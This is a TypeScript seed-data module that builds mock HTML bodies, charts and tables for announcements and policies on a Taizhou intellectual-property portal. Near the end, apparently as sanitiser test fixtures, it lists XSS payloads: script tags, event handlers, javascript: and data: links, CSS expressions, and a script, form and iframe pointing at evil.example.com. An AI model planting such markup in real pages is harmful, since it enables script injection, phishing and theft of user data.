import { ANNOUNCEMENTS, NEWS_ITEMS, PRODUCTS_ITEMS, PUNISHMENTS } from './content';
import { AGENCIES, contactPhone, ENTERPRISES, personName } from './parties';
import { createRandom, hashSeed, type Random } from './random';

/**
 * Seed data of the portal content detail endpoints (docs/api.md §6.1): the HTML bodies,
 * attachments and previous/next of announcements, the full public-disclosure record of penalty
 * notices, the terms of products and the bodies of news. Every record derives from its list item
 * and a seed of its id, so the same id always gives the same detail.
 *
 * Some bodies are deliberately hostile (scripts, event handlers, `javascript:` links, iframes,
 * `style` with `expression`/`url(javascript:)`) mixed with real formatting, to prove the front end
 * sanitises server HTML: HOSTILE_IDS lists them.
 */

/** Records whose HTML body carries hostile markup (docs/api.md §6.1 "Hostile bodies"). */
export const HOSTILE_IDS = { announcement: 'an-0035', news: 'nw-0032' } as const;

/** Image endpoint of the mock file service; `name` is a key of CONTENT_IMAGES. */
export const imageUrl = (name: string) => `/ipr-data-service/api/front/file/image?name=${name}`;
/** Download endpoint of the mock file service. */
export const downloadUrl = (id: string) => `/ipr-data-service/api/front/file/download?id=${id}`;

const bar = (x: number, value: number, max: number, label: string) => {
  const height = Math.round((value / max) * 150);
  return `<rect x="${x}" y="${190 - height}" width="56" height="${height}" fill="#0958d9"/>
<text x="${x + 28}" y="${182 - height}" text-anchor="middle" font-size="14" fill="#1f1f1f">${value}</text>
<text x="${x + 28}" y="212" text-anchor="middle" font-size="14" fill="#434343">${label}</text>`;
};

const step = (x: number, label: string) => `<rect x="${x}" y="70" width="140" height="64" rx="8" fill="#e6f4ff" stroke="#0958d9"/>
<text x="${x + 70}" y="108" text-anchor="middle" font-size="15" fill="#002c8c">${label}</text>`;

const arrow = (x: number) => `<path d="M${x} 102 h28 m-8 -6 l8 6 l-8 6" stroke="#595959" stroke-width="2" fill="none"/>`;

const svg = (title: string, body: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 720 240" width="720" height="240" role="img" aria-label="${title}">
<rect width="720" height="240" fill="#ffffff"/>
<text x="360" y="30" text-anchor="middle" font-size="17" font-weight="bold" fill="#141414">${title}</text>
${body}
</svg>`;

/** SVG images the bodies show, served by `GET /ipr-data-service/api/front/file/image?name=`. */
export const CONTENT_IMAGES: Record<string, { svg: string; alt: string }> = {
  'grant-trend': {
    alt: '柱状图：2021—2025年泰州市发明专利授权量分别为2156、2480、2871、3235、3642件',
    svg: svg(
      '2021—2025年泰州市发明专利授权量（件）',
      [2156, 2480, 2871, 3235, 3642].map((v, i) => bar(110 + i * 110, v, 3642, `${2021 + i}年`)).join('\n'),
    ),
  },
  'apply-process': {
    alt: '流程图：网上填报、属地初审、专家评审、公示立项',
    svg: svg(
      '项目申报流程',
      ['网上填报', '属地初审', '专家评审', '公示立项'].map((label, i) => step(40 + i * 170, label)).join('\n') +
        [180, 350, 520].map(arrow).join('\n'),
    ),
  },
  'pledge-growth': {
    alt: '柱状图：2022—2026年前三季度泰州市知识产权质押登记金额分别为18.6、24.3、31.2、40.5、46.8亿元',
    svg: svg(
      '泰州市知识产权质押登记金额（亿元）',
      [18.6, 24.3, 31.2, 40.5, 46.8].map((v, i) => bar(110 + i * 110, v, 46.8, `${2022 + i}年`)).join('\n'),
    ),
  },
};

const figure = (name: string, caption: string) =>
  `<figure><img src="${imageUrl(name)}" alt="${CONTENT_IMAGES[name].alt}" width="720" height="240"><figcaption>${caption}</figcaption></figure>`;

const table = (caption: string, head: string[], rows: Array<Array<string | number>>) =>
  `<table><caption>${caption}</caption><thead><tr>${head.map((h) => `<th>${h}</th>`).join('')}</tr></thead><tbody>${rows
    .map((row) => `<tr>${row.map((cell) => `<td>${cell}</td>`).join('')}</tr>`)
    .join('')}</tbody></table>`;

const list = (tag: 'ul' | 'ol', items: string[]) => `<${tag}>${items.map((item) => `<li>${item}</li>`).join('')}</${tag}>`;

/** 2026-05-21 → 2026年5月21日, as signed at the foot of a Chinese official document. */
const chineseDate = (iso: string) => {
  const [y, m, d] = iso.split('-').map(Number);
  return `${y}年${m}月${d}日`;
};

const TAIZHOU_LANDLINE = (random: Random) => `0523-8${random.digits(7)}`;

function signature(item: API.AnnouncementItem) {
  return `<p>${item.department}</p><p>${chineseDate(item.publishDate)}</p>`;
}

/** A numbered part of an announcement body: its heading (with its number) and its HTML. */
type Section = [heading: string, html: string];

/**
 * What one kind of announcement says (issue 16: every notice has its own body). `match` finds the
 * kind by title; a yearly notice gets the year it was issued, so 2024's and 2025's differ in
 * dates, deadlines and figures as real annual notices do.
 */
type Topic = {
  match: RegExp;
  /** Addressee and opening paragraph(s). */
  opening: (item: API.AnnouncementItem, year: number, random: Random) => string[];
  sections: (item: API.AnnouncementItem, year: number, random: Random) => Section[];
  /** The chart shown after the second section: [image name, caption]. */
  figure: [string, string];
  /** Documents signed by their office (notices); policies and interpretations are not. */
  signed: boolean;
};

const CITY_ADDRESSEE = '各市（区）市场监督管理局，泰州医药高新区（高港区）市场监督管理局，各有关单位：';
const hostAgencies = (random: Random, count: number) =>
  random.shuffle(ENTERPRISES.filter((e) => e.district.region === 'taizhou')).slice(0, count);

const TOPICS: readonly Topic[] = [
  {
    match: /江苏省知识产权战略推进计划/,
    opening: (_item, year) => [
      '<p>各设区市知识产权局（市场监督管理局），各有关单位：</p>',
      `<p>为深入实施知识产权强省建设，推动知识产权高质量发展，省知识产权局决定组织申报${year}年度江苏省知识产权战略推进计划项目。请各设区市认真做好组织推荐工作，现将有关事项通知如下。</p>`,
    ],
    sections: (_item, year, random) => [
      ['一、申报主体', list('ul', [
        '在江苏省内依法注册的企业、高校、科研院所和知识产权服务机构，具有独立法人资格；',
        '近三年承担的省级知识产权项目均已按期验收，无逾期未结项目；',
        `${year - 1}年度未发生知识产权严重违法失信行为；`,
        '同一单位限报一个项目，已获省级资助的同类项目不得重复申报。',
      ])],
      ['二、项目类别', table(`${year}年度省战略推进计划项目类别`, ['项目类别', '立项方式', '省级资助（万元/项）', '推荐名额'], [
        ['高价值专利培育计划', '竞争立项', 100, `每市不超过${random.int(2, 3)}项`],
        ['知识产权强企培育', '竞争立项', 50, `每市不超过${random.int(3, 5)}项`],
        ['产业专利导航', '委托实施', 40, '每市1项'],
        ['知识产权保护体系建设', '竞争立项', 30, '每市不超过2项'],
      ])],
      ['三、推荐程序', list('ol', [
        '设区市知识产权局对申报材料进行形式审查和实地核查，择优排序推荐；',
        `推荐材料于${year}年3月${random.int(20, 31)}日前通过江苏省知识产权项目管理系统报送；`,
        '省知识产权局组织专家评审，评审结果公示5个工作日后下达立项文件。',
      ])],
      ['四、有关要求', '<p>推荐单位要严格把关，确保申报项目具有较好的实施基础和配套条件。项目实施期间须按季度报送进展，省知识产权局将对项目执行情况开展抽查。</p>'],
    ],
    figure: ['apply-process', '图1 项目申报与推荐流程'],
    signed: true,
  },
  {
    match: /高价值专利培育项目/,
    opening: (_item, year) => [
      `<p>${CITY_ADDRESSEE}</p>`,
      `<p>为提升全市专利创造质量，围绕生物医药、新能源、高端装备制造和船舶与海洋工程等主导产业培育一批高价值专利组合，现组织申报${year}年度泰州市高价值专利培育项目。</p>`,
    ],
    sections: (_item, year, random) => [
      ['一、申报对象', list('ul', [
        '在泰州市注册的企业，或由企业牵头、联合高校院所和专利代理机构组成的培育联合体；',
        '牵头企业拥有有效发明专利不少于10件，且在主导产业领域有明确的专利布局方向；',
        '配备不少于2名专职知识产权管理人员；',
        '项目实施期内能落实不低于市级资助额的配套资金。',
      ])],
      ['二、培育方向与资助标准', table('培育方向与资助标准', ['培育方向', '重点技术领域', '资助标准（万元/项）', '计划立项（项）'], [
        ['生物医药', '抗体药物、高端制剂、医疗器械', 50, random.int(2, 3)],
        ['新能源', '光伏电池、储能、氢能装备', 50, random.int(2, 3)],
        ['高端装备制造', '工业机器人、精密传动', 40, random.int(1, 2)],
        ['船舶与海洋工程', '船舶配件、海工装备', 40, random.int(1, 2)],
      ])],
      ['三、申报程序', list('ol', [
        '申报单位编制培育方案，明确目标专利组合和布局计划；',
        `各市（区）局于${year}年4月${random.int(15, 30)}日前完成初审并推荐；`,
        '市局组织专家评审、答辩和现场考察；',
        '公示无异议后签订项目任务书，资助资金分两期拨付。',
      ])],
      ['四、绩效要求', '<p>项目实施期为两年，期满须形成不少于5件核心发明专利组成的专利组合和1份专利布局分析报告。市局将组织绩效评价，评价不合格的收回第二期资金。</p>'],
    ],
    figure: ['grant-trend', '图1 近五年全市发明专利授权情况'],
    signed: true,
  },
  {
    match: /质押融资贴息补助/,
    opening: (_item, year) => [
      '<p>各市（区）财政局、市场监督管理局，各合作银行：</p>',
      `<p>为缓解科技型中小企业融资难、融资贵问题，根据《泰州市知识产权质押融资风险补偿资金管理办法》，现开展${year}年度知识产权质押融资贴息补助申报工作。</p>`,
    ],
    sections: (_item, year, random) => [
      ['一、补助对象', list('ul', [
        `${year - 1}年1月1日至12月31日期间以专利权、商标专用权质押方式从合作银行获得贷款，并按期还本付息的企业；`,
        '质押登记已在国家知识产权局办理完毕；',
        '企业在泰州市注册纳税，信用状况良好；',
        '同一笔贷款不重复享受市级以上同类贴息。',
      ])],
      ['二、补助标准', table('贴息与补贴标准', ['补助项目', '补助标准', '单个企业年度上限'], [
        ['贷款贴息', `按实际支付利息的${random.int(4, 5)}0%`, '30万元'],
        ['评估费补贴', '按实际评估费的50%', '3万元'],
        ['保险费补贴', '按实际保费的40%', '2万元'],
      ])],
      ['三、申报程序', list('ol', [
        '企业在本平台填报申请表，上传贷款合同、质押登记通知书和付息凭证；',
        '合作银行核对贷款信息并出具证明；',
        '市（区）财政局、市场监督管理局联合审核；',
        `市财政局于${year}年9月底前拨付补助资金。`,
      ])],
      ['四、有关要求', '<p>补助资金实行总额控制，申请额超出年度预算时按比例核减。提供虚假材料骗取补助的，追回资金并取消其三年内申报资格。</p>'],
    ],
    figure: ['pledge-growth', '图1 近年全市知识产权质押登记金额'],
    signed: true,
  },
  {
    match: /专利转化运用优秀案例/,
    opening: (_item, year) => [
      `<p>${CITY_ADDRESSEE}</p>`,
      `<p>为总结推广专利转化运用的经验做法，发挥典型示范作用，现征集${year}年度泰州市专利转化运用优秀案例。</p>`,
    ],
    sections: (_item, year, random) => [
      ['一、征集范围', list('ul', [
        '专利转让、许可（含开放许可）后实现产业化，取得明显经济效益的；',
        '以专利作价入股、质押融资等方式实现价值的；',
        '高校院所专利向中小企业转化并形成新产品的；',
        '专利导航支撑产业链招商、企业研发决策的。',
      ])],
      ['二、评选指标', table('案例评选指标', ['指标', '权重', '说明'], [
        ['经济效益', '40%', '转化后新增销售收入、利润或融资额'],
        ['创新程度', '25%', '转化方式和机制的创新性'],
        ['示范推广价值', '20%', '可复制、可推广程度'],
        ['材料完整性', '15%', '合同、备案和财务凭证齐全'],
      ])],
      ['三、报送方式', list('ol', [
        `案例文本（不超过3000字）及证明材料于${year}年9月${random.int(10, 20)}日前在本平台提交；`,
        `市局组织专家评审，择优选出${random.int(8, 12)}个优秀案例；`,
        '优秀案例在本平台和“泰州知识产权”公众号集中宣传。',
      ])],
      ['四、有关要求', '<p>案例须真实可靠，涉及商业秘密的内容请自行脱敏处理。入选案例的单位在高价值专利培育等项目申报中同等条件下优先支持。</p>'],
    ],
    figure: ['apply-process', '图1 案例征集流程'],
    signed: true,
  },
  {
    match: /宣传周/,
    opening: (_item, year) => [
      '<p>各市（区）市场监督管理局，市有关单位：</p>',
      `<p>4月20日至26日是${year}年全国知识产权宣传周。为营造尊重知识、崇尚创新、诚信守法的良好氛围，现就组织开展宣传周泰州系列活动有关事项通知如下。</p>`,
    ],
    sections: (_item, year) => [
      ['一、活动安排', list('ul', [
        '各市（区）至少组织一场面向企业的知识产权专题活动；',
        '组织专利代理机构、保护中心走进园区开展政策宣讲和咨询；',
        '4月26日世界知识产权日集中发布全市知识产权发展与保护状况和典型案例。',
      ])],
      ['二、重点活动', table(`${year}年宣传周重点活动`, ['时间', '活动', '承办单位'], [
        ['4月20日', '宣传周启动仪式暨典型案例发布', '市市场监督管理局（知识产权局）'],
        ['4月21日—24日', '“知识产权进园区”巡回宣讲', '各市（区）市场监督管理局'],
        ['4月25日', '专利代理机构开放日', '市知识产权保护中心'],
        ['4月26日', '知识产权发展与保护状况新闻发布会', '市市场监督管理局（知识产权局）'],
      ])],
      ['三、工作要求', list('ol', [
        '各单位于4月15日前报送活动方案和联系人；',
        '活动结束后5个工作日内报送总结和图片资料；',
        '注重运用新媒体开展宣传，扩大活动覆盖面。',
      ])],
    ],
    figure: ['grant-trend', '图1 近五年全市发明专利授权情况'],
    signed: true,
  },
  {
    match: /双随机、一公开/,
    opening: (_item, year) => [
      `<p>${CITY_ADDRESSEE}</p>`,
      `<p>为加强专利代理行业监管，规范专利代理执业行为，根据《专利代理条例》《专利代理管理办法》，现就开展${year}年度专利代理机构“双随机、一公开”检查有关事项通知如下。</p>`,
    ],
    sections: (_item, _year, random) => [
      ['一、检查对象', list('ul', [
        `从全市${random.int(18, 26)}家专利代理机构（含分支机构）中随机抽取不低于20%的机构；`,
        '上年度被列入经营异常名录或受到行政处罚的机构列为重点检查对象；',
        '执法检查人员从执法人员名录库中随机选派。',
      ])],
      ['二、检查事项', table('检查事项与方式', ['检查事项', '检查内容', '检查方式'], [
        ['执业许可', '执业许可证、合伙人和股东是否符合规定', '书面检查'],
        ['代理行为', '是否代理非正常专利申请、是否以不正当手段招揽业务', '抽查案卷'],
        ['年度报告', '是否按时报送年度报告并公示', '系统核查'],
        ['执业人员', '专利代理师是否在本机构执业', '现场核查'],
      ])],
      ['三、结果运用', list('ol', [
        '检查结果在检查结束之日起20个工作日内通过国家企业信用信息公示系统公示；',
        '发现违法违规行为的，依法立案查处；',
        '被检查机构应如实提供材料，不得拒绝、阻碍检查。',
      ])],
    ],
    figure: ['apply-process', '图1 检查工作流程'],
    signed: true,
  },
  {
    match: /优势企业培育名单/,
    opening: (_item, year) => [
      `<p>${CITY_ADDRESSEE}</p>`,
      `<p>根据《泰州市知识产权优势企业培育工作方案》，经企业申报、各市（区）推荐、专家评审和社会公示，现将${year}年度泰州市知识产权优势企业培育名单予以公布。</p>`,
    ],
    sections: (_item, year, random) => [
      ['一、培育要求', list('ul', [
        '培育企业要建立健全知识产权管理制度，通过知识产权管理体系认证；',
        '培育期内每年新增发明专利申请不少于5件；',
        '积极开展专利转化运用和海外专利布局。',
      ])],
      ['二、培育名单', table(`${year}年度培育企业名单（部分）`, ['序号', '企业名称', '所在地区'],
        hostAgencies(random, 5).map((enterprise, index) => [index + 1, enterprise.name, enterprise.district.name]))],
      ['三、管理措施', list('ol', [
        '培育期为三年，期满进行绩效评价；',
        '市局对培育企业在高价值专利培育、专利预审等方面给予优先支持；',
        '培育期内发生严重知识产权违法行为的，取消培育资格。',
      ])],
    ],
    figure: ['grant-trend', '图1 近五年全市发明专利授权情况'],
    signed: true,
  },
  {
    match: /医药博览会/,
    opening: (_item, year) => [
      `<p>第${year - 2009}届中国（泰州）医药博览会将于${year}年10月在泰州举办。为加强展会期间知识产权保护，维护参展单位合法权益，现将有关事项通告如下。</p>`,
    ],
    sections: () => [
      ['一、保护措施', list('ul', [
        '展会期间在主展馆设立知识产权保护工作站，受理专利、商标侵权投诉；',
        '参展单位应对展品的知识产权状况进行自查，携带专利证书等权利证明文件参展；',
        '投诉成立的，被投诉方应撤下涉嫌侵权展品。',
      ])],
      ['二、投诉受理', table('投诉受理安排', ['事项', '时间', '地点'], [
        ['投诉受理', '展会期间每日8:30—17:00', '主展馆一层服务台'],
        ['侵权判定咨询', '展会期间全天', '知识产权保护工作站'],
        ['处理结果告知', '受理后24小时内', '知识产权保护工作站'],
      ])],
      ['三、投诉材料', list('ol', [
        '投诉书（写明被投诉人、展位号和涉嫌侵权展品）；',
        '权利证明文件（专利证书、专利登记簿副本或商标注册证）；',
        '侵权比对说明及现场照片；',
        '投诉人主体资格证明。',
      ])],
    ],
    figure: ['apply-process', '图1 展会投诉处理流程'],
    signed: true,
  },
  {
    match: /规范专利申请行为/,
    opening: () => [
      '<p>为贯彻落实国家知识产权局《规范申请专利行为的规定》，严厉打击非正常专利申请行为，维护专利申请秩序，现通告如下。</p>',
    ],
    sections: () => [
      ['一、禁止的行为', list('ul', [
        '提交技术方案明显相同、拼凑变劣或者编造实验数据的专利申请；',
        '专利代理机构代理或者诱导申请人提交非正常专利申请；',
        '以非正常专利申请骗取资助奖励或者其他政策优惠。',
      ])],
      ['二、处理措施', table('非正常专利申请的处理', ['对象', '处理措施'], [
        ['申请人', '不予资助奖励，已发放的依法追回，纳入信用记录'],
        ['专利代理机构', '依法给予警告、罚款，情节严重的责令停止承接新的专利代理业务'],
        ['专利代理师', '依法给予警告、罚款，情节严重的吊销专利代理师资格证'],
      ])],
      ['三、举报方式', list('ol', [
        '通过本平台“纠纷调解”栏目或12345热线举报；',
        '举报经查实的，对举报人信息予以保密。',
      ])],
    ],
    figure: ['grant-trend', '图1 近五年全市发明专利授权情况'],
    signed: true,
  },
  {
    match: /强市建设行动方案（2024—2026年）$/,
    opening: () => [
      '<p>为深入贯彻《知识产权强国建设纲要（2021—2035年）》，加快建设知识产权强市，结合我市实际，制定本行动方案。</p>',
    ],
    sections: () => [
      ['一、总体目标', '<p>到2026年，全市知识产权创造质量显著提升，运用效益充分显现，保护体系更加完善，服务能力明显增强。</p>'],
      ['二、主要指标', table('2026年主要指标', ['指标', '2023年', '2026年目标'], [
        ['每万人口高价值发明专利拥有量（件）', 9.8, 14],
        ['专利转让许可备案（次/年）', 1650, 2500],
        ['知识产权质押融资登记金额（亿元/年）', 31.2, 50],
        ['专利侵权纠纷行政裁决平均周期（天）', 60, 45],
      ])],
      ['三、重点任务', list('ol', [
        '实施高价值专利培育工程，每年培育高价值专利组合10个以上；',
        '实施专利转化运用专项行动，推动高校院所存量专利向中小企业转化；',
        '建设知识产权快速协同保护体系，推行简案快办；',
        '建设知识产权一站式公共服务平台，实现政务服务“一网通办”。',
      ])],
      ['四、保障措施', '<p>建立市知识产权工作联席会议制度，将知识产权工作纳入高质量发展综合考核；市财政每年安排专项资金支持行动方案实施。</p>'],
    ],
    figure: ['grant-trend', '图1 2021—2025年泰州市发明专利授权量'],
    signed: false,
  },
  {
    match: /专利转化运用专项行动实施方案/,
    opening: () => [
      '<p>为贯彻落实国务院办公厅《专利转化运用专项行动方案（2023—2025年）》，加快推进全省专利产业化，制定本实施方案。</p>',
    ],
    sections: () => [
      ['一、工作目标', '<p>到2025年底，全省高校和科研院所专利产业化率明显提高，备案认定的专利密集型产品产值超过万亿元。</p>'],
      ['二、重点任务', list('ol', [
        '梳理盘活高校和科研院所存量专利，建立可转化专利资源库；',
        '以专利产业化促进中小企业成长，开展“千校万企”对接活动；',
        '推进专利开放许可，降低中小企业获取专利的成本；',
        '培育专利密集型产品，推进专利产品备案认定。',
      ])],
      ['三、任务分工', table('主要任务分工', ['任务', '牵头单位', '完成时限'], [
        ['存量专利盘点', '省知识产权局、省教育厅', '2024年底'],
        ['专利开放许可', '省知识产权局', '2025年底'],
        ['专利密集型产品备案', '省知识产权局、省工业和信息化厅', '持续推进'],
      ])],
    ],
    figure: ['grant-trend', '图1 近五年全省发明专利授权情况'],
    signed: false,
  },
  {
    match: /专利开放许可试点工作的实施意见/,
    opening: () => [
      '<p>为落实《中华人民共和国专利法》第五十条至第五十二条关于专利开放许可的规定，推进专利开放许可试点，提出如下实施意见。</p>',
    ],
    sections: () => [
      ['一、试点内容', list('ul', [
        '组织高校、科研院所和国有企业筛选适宜开放许可的专利，发布开放许可声明；',
        '引导许可方参照同类专利许可费确定开放许可使用费标准；',
        '对达成开放许可的，协助当事人办理许可合同备案。',
      ])],
      ['二、试点安排', table('试点进度安排', ['阶段', '时间', '主要工作'], [
        ['启动阶段', '2024年9月—10月', '确定试点单位，开展专利筛选和价值评估'],
        ['实施阶段', '2024年11月—2025年9月', '发布开放许可声明，组织供需对接'],
        ['总结阶段', '2025年10月—12月', '总结试点经验，形成可推广的做法'],
      ])],
      ['三、支持措施', list('ol', [
        '对实施开放许可的专利给予年费减免政策宣传和办理指导；',
        '对达成开放许可的中小企业给予许可费补贴。',
      ])],
    ],
    figure: ['apply-process', '图1 开放许可办理流程'],
    signed: false,
  },
  {
    match: /专利资助奖励办法（2025年修订）$/,
    opening: () => [
      '<p>为深入实施知识产权强国战略，加快建设知识产权强市，根据《中华人民共和国专利法》《江苏省知识产权促进和保护条例》等法律法规，结合本市实际，制定本办法。</p>',
    ],
    sections: (item, _year, random) => [
      ['第一章 总则', '<p><strong>第一条</strong> 本办法适用于在泰州市行政区域内依法登记注册的企业、高等院校、科研院所及其他组织。</p><p><strong>第二条</strong> 资助奖励坚持质量导向，重点支持高价值发明专利的创造和运用。</p>'],
      ['第二章 资助奖励标准', table('资助奖励标准', ['项目', '标准', '年度上限'], [
        ['国内发明专利授权', '每件0.5万元', '单位每年50万元'],
        ['PCT国际专利申请', '每件1万元', '单位每年30万元'],
        ['质押融资贷款贴息', `实际利息的${random.int(3, 5)}0%`, '每家企业每年30万元'],
        ['专利转化运用奖励', '交易额的5%', '每项20万元'],
      ])],
      ['第三章 附则', list('ol', [
        '以欺诈等不正当手段获取资助的，由市市场监督管理局（知识产权局）追回资助资金，并依法依规处理；',
        `本办法由泰州市市场监督管理局（知识产权局）负责解释，自${chineseDate(item.publishDate)}起施行。`,
      ])],
    ],
    figure: ['grant-trend', '图1 2021—2025年泰州市发明专利授权量'],
    signed: false,
  },
  {
    match: /质押融资风险补偿资金管理办法$/,
    opening: () => [
      '<p>为引导银行业金融机构加大知识产权质押融资投放，规范风险补偿资金管理，制定本办法。</p>',
    ],
    sections: () => [
      ['第一章 资金来源与用途', '<p><strong>第一条</strong> 风险补偿资金由市财政首期安排5000万元，各市（区）按比例配套，专项用于合作银行知识产权质押贷款本金损失的补偿。</p>'],
      ['第二章 补偿标准', table('风险补偿分担比例', ['贷款类型', '资金池分担', '合作银行分担'], [
        ['纯知识产权质押贷款', '50%', '50%'],
        ['知识产权与其他担保组合贷款', '40%', '60%'],
        ['首次获得贷款的科技型中小企业', '60%', '40%'],
      ])],
      ['第三章 管理与监督', list('ol', [
        '合作银行应在贷款逾期90日后向资金管理机构提出补偿申请；',
        '补偿后收回的款项按原分担比例返还资金池；',
        '单个合作银行年度不良率超过5%的，暂停新增贷款纳入资金池。',
      ])],
    ],
    figure: ['pledge-growth', '图1 近年全市知识产权质押登记金额'],
    signed: false,
  },
  {
    match: /数据知识产权登记工作指引（试行）$/,
    opening: () => [
      '<p>为规范数据知识产权登记工作，促进数据要素合规流通和价值实现，结合本市实际，制定本指引。</p>',
    ],
    sections: () => [
      ['第一章 登记对象', list('ul', [
        '依法收集、经过一定规则处理、具有实用价值和智力成果属性的数据集合；',
        '不包括涉及国家秘密、个人隐私和未经授权的他人数据。',
      ])],
      ['第二章 登记材料', table('登记申请材料', ['材料', '说明'], [
        ['登记申请表', '在本平台在线填写'],
        ['数据来源说明', '说明数据的收集方式和合法性'],
        ['数据样例', '不超过100条，涉及敏感信息的须脱敏'],
        ['存证公证材料', '数据存证或公证机构出具的证明'],
      ])],
      ['第三章 登记程序', list('ol', [
        '申请人在线提交申请，登记机构在5个工作日内完成形式审查；',
        '审查通过的进行公示，公示期为10个工作日；',
        '公示无异议的颁发数据知识产权登记证书，证书可用于质押融资和交易。',
      ])],
    ],
    figure: ['apply-process', '图1 数据知识产权登记流程'],
    signed: false,
  },
];

/** Policy interpretations and one-page explainers: the main points of the document they explain. */
const INTERPRETATION_POINTS: ReadonlyArray<[RegExp, string[], Array<Array<string | number>>]> = [
  [/强市建设行动方案/, [
    '<strong>目标更具体：</strong>提出到2026年每万人口高价值发明专利拥有量达到14件等四项量化指标；',
    '<strong>任务更聚焦：</strong>围绕创造、运用、保护、服务四个环节部署四项重点任务；',
    '<strong>保障更有力：</strong>建立联席会议制度，将知识产权工作纳入综合考核。',
  ], [['每万人口高价值发明专利拥有量', '9.8件（2023年）', '14件（2026年）'], ['质押融资登记金额', '31.2亿元', '50亿元'], ['行政裁决平均周期', '60天', '45天']]],
  [/专利开放许可/, [
    '<strong>什么是开放许可：</strong>专利权人自愿声明，任何单位或个人按公布的条件支付许可费即可实施专利；',
    '<strong>许可费怎么定：</strong>由专利权人自行确定并在声明中写明，可参照同类专利的许可费；',
    '<strong>有什么优惠：</strong>开放许可实施期间，专利年费按规定给予减免。',
  ], [['许可方式', '双方协商', '声明即许可、条件公开'], ['许可费', '个案谈判', '声明中公布'], ['年费', '全额缴纳', '实施期间减免']]],
  [/专利资助奖励办法/, [
    '<strong>突出质量导向：</strong>资助对象由“数量”转向“质量”，重点支持高价值发明专利；',
    '<strong>强化转化运用：</strong>新增专利开放许可、质押融资和转化运用奖励条款；',
    '<strong>优化兑现方式：</strong>申报、审核、拨付全流程线上办理。',
  ], [['发明专利授权资助', '每件1万元', '每件0.5万元，战略性新兴产业领域上浮20%'], ['PCT国际专利申请', '每件0.5万元', '每件1万元'], ['办理方式', '线下提交纸质材料', '在本平台线上申报']]],
  [/质押融资风险补偿资金管理办法/, [
    '<strong>资金池多大：</strong>市财政首期安排5000万元，各市（区）按比例配套；',
    '<strong>补偿怎么分：</strong>纯知识产权质押贷款的本金损失由资金池和合作银行各承担50%；',
    '<strong>企业怎么办：</strong>企业向合作银行申请贷款，无需另行申请补偿。',
  ], [['纯知识产权质押贷款', '—', '资金池分担50%'], ['首次获得贷款的科技型中小企业', '—', '资金池分担60%'], ['评估费', '企业全额承担', '可申请50%补贴']]],
  [/数据知识产权登记/, [
    '<strong>登记什么：</strong>依法收集、经过规则处理、具有实用价值的数据集合；',
    '<strong>怎么登记：</strong>在本平台在线申请，形式审查5个工作日，公示10个工作日；',
    '<strong>登记有什么用：</strong>登记证书可作为数据持有的证明，用于质押融资和交易。',
  ], [['申请方式', '—', '在本平台在线提交'], ['审查时限', '—', '5个工作日'], ['公示期', '—', '10个工作日']]],
];

/** What the city's yearly notices stress in each year, so one notice kind reads differently from year to year. */
const YEAR_FOCUS: Readonly<Record<number, string>> = {
  2024: '今年是实施《泰州市知识产权强市建设行动方案（2024—2026年）》的开局之年，各单位要对照行动方案的年度目标抓好落实。',
  2025: '今年是“十四五”规划收官之年，各单位要围绕国家知识产权强市建设试点任务，确保各项指标如期完成。',
  2026: '今年是“十五五”规划开局之年，各单位要对标知识产权强市建设目标，推动各项工作提质增效。',
};

/** One announcement's body from its topic: opening, numbered sections, a chart, and (notices) contact and signature. */
function topicBody(item: API.AnnouncementItem, random: Random, year: number): string {
  const topic = TOPICS.find((candidate) => candidate.match.test(item.title));
  // Every seeded title has its topic; a new title without one should fail loudly, not reuse another's text.
  if (!topic) throw new Error(`no announcement topic for ${item.title}`);
  const parts = [...topic.opening(item, year, random)];
  if (item.title.includes(`${year}年`) && item.department.startsWith('泰州') && YEAR_FOCUS[year]) parts.push(`<p>${YEAR_FOCUS[year]}</p>`);
  topic.sections(item, year, random).forEach(([heading, html], index) => {
    parts.push(`<h2>${heading}</h2>`, html);
    if (index === 1) parts.push(figure(...topic.figure));
  });
  if (topic.signed) parts.push(`<p>联系电话：${TAIZHOU_LANDLINE(random)}（工作日 8:30—17:30）。</p>`, signature(item));
  return parts.join('');
}

function interpretationBody(item: API.AnnouncementItem, random: Random): string {
  const subject = item.title.replace(/^一图读懂/, '').replace(/政策解读$/, '').replace(/十问十答$/, '');
  const match = INTERPRETATION_POINTS.find(([pattern]) => pattern.test(item.title));
  if (!match) throw new Error(`no interpretation points for ${item.title}`);
  const [, points, rows] = match;
  return [
    `<p>为便于社会公众准确理解${subject}，现就其主要内容解读如下。</p>`,
    '<h2>一、背景</h2>',
    '<p>近年来，我市知识产权事业快速发展，专利质量持续提升，但仍存在高价值专利占比不高、转化运用不充分等问题，需要发挥政策的引导作用。</p>',
    figure('pledge-growth', '图1 近年全市知识产权质押登记金额'),
    '<h2>二、主要内容</h2>',
    list('ul', points),
    '<h2>三、要点对照</h2>',
    table('要点对照', ['事项', '此前', '现在'], rows),
    '<h2>四、咨询方式</h2>',
    `<p>政策咨询电话：${TAIZHOU_LANDLINE(random)}（工作日 8:30—17:30）。</p>`,
  ].join('');
}

/**
 * Hostile markup mixed into a real body: every item here must be neutralised by the front end,
 * while the headings, list, table and image around it stay. `window.__xss` is what a successful
 * attack would set; end-to-end tests check it stays undefined.
 */
const HOSTILE_ANNOUNCEMENT_PARTS = [
  '<script>window.__xss = "script"; alert("xss")</script>',
  '<p onclick="window.__xss = \'onclick\'">名单如下，点击企业名称可查看培育方向。</p>',
  '<img src="/ipr-front/no-such-image.png" alt="" onerror="window.__xss = \'onerror\'">',
  '<p><a href="javascript:window.__xss=\'href\'">查看完整名单</a>，或访问<a href="https://www.cnipa.gov.cn/">国家知识产权局网站</a>查询企业专利信息。</p>',
  '<iframe src="https://evil.example.com/phish"></iframe>',
  '<svg onload="window.__xss = \'svg\'"><circle r="10"></circle></svg>',
  '<p style="background:url(javascript:window.__xss=\'style\');width:expression(alert(1))">培育期为三年，期满进行绩效评价。</p>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">下载名单</a>',
].join('');

const HOSTILE_NEWS_PARTS = [
  '<script src="https://evil.example.com/steal.js"></script>',
  '<img src="x" onerror="window.__xss = \'news-onerror\'" alt="">',
  '<p><a href="JaVaScRiPt:window.__xss=\'news-href\'" target="_self">点击查看案件详情</a></p>',
  '<form action="https://evil.example.com/collect"><input name="phone" placeholder="输入手机号领取补贴"></form>',
  '<object data="https://evil.example.com/x.swf"></object>',
  '<div onmouseover="window.__xss = \'news-hover\'">快速维权服务覆盖新材料、生物医药和高端装备三个产业。</div>',
].join('');

function announcementBody(item: API.AnnouncementItem): string {
